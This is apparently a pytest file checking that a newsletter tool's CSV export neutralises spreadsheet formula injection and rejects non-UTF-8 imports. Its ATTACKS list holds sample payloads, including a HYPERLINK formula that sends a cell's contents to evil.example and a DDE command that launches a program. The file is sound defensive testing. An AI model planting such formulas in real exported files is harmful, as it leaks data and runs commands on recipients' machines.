"""CSV cells that a spreadsheet would run are escaped on export and restored on import
(OWASP CSV injection; issue 15 item 4)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from digest.subscriber_io import escape_cell, read_records, to_csv, unescape_cell

ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+pooling", "-2+3",
           "@SUM(1+1)", "\tpooling", "\rpooling", "-medical pooling"]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_cell_is_written_as_text(value):
    assert escape_cell(value) == "'" + value
    assert unescape_cell(escape_cell(value)) == value


@pytest.mark.parametrize("value", ["pooling", "Ada", "'quoted", "a=b", "", "O'Brien"])
def test_ordinary_cells_are_left_alone(value):
    assert escape_cell(value) == value and unescape_cell(value) == value


@given(st.text(max_size=30))
def test_every_text_round_trips(value):
    assert unescape_cell(escape_cell(value)) == value


def test_no_exported_cell_starts_like_a_formula():
    records = [{"email": f"user{i}@example.org", "name": attack, "interests": attack} for i, attack in enumerate(ATTACKS)]
    text = to_csv(records)
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
    back = read_records(text.encode(), name="export.csv")
    assert [r.fields["name"] for r in back] == ATTACKS and [r.fields["interests"] for r in back] == ATTACKS


def test_a_windows_1252_file_is_refused_naming_its_line_and_the_fix():
    from digest.subscriber_io import ImportFileError

    data = "email,name\nada@example.org,Ada\njose@example.org,Jos\u00e9\n".encode("cp1252")
    with pytest.raises(ImportFileError) as caught:
        read_records(data, name="people.csv")
    assert str(caught.value).startswith("people.csv:3: not UTF-8 text (byte 0xE9 at column 21)")
    assert "iconv -f WINDOWS-1252 -t UTF-8" in str(caught.value)
